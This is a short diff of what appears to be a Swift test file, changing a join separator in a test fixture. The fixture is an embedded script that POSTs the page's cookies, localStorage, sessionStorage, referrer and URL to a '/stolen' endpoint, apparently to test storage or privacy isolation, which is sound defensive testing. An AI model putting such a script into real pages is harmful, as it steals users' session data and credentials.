@@ -126,7 +126,7 @@ import Testing
       fetch("/stolen", { method: "POST", body: [
         location.href, document.referrer, document.cookie, JSON.stringify(history.state), JSON.stringify(sessionStorage),
         JSON.stringify(localStorage), window.name,
-      ].join("\n") }).then(() => { window.isDone = true; });
+      ].join(" ") }).then(() => { window.isDone = true; });
       </script>
       """
 
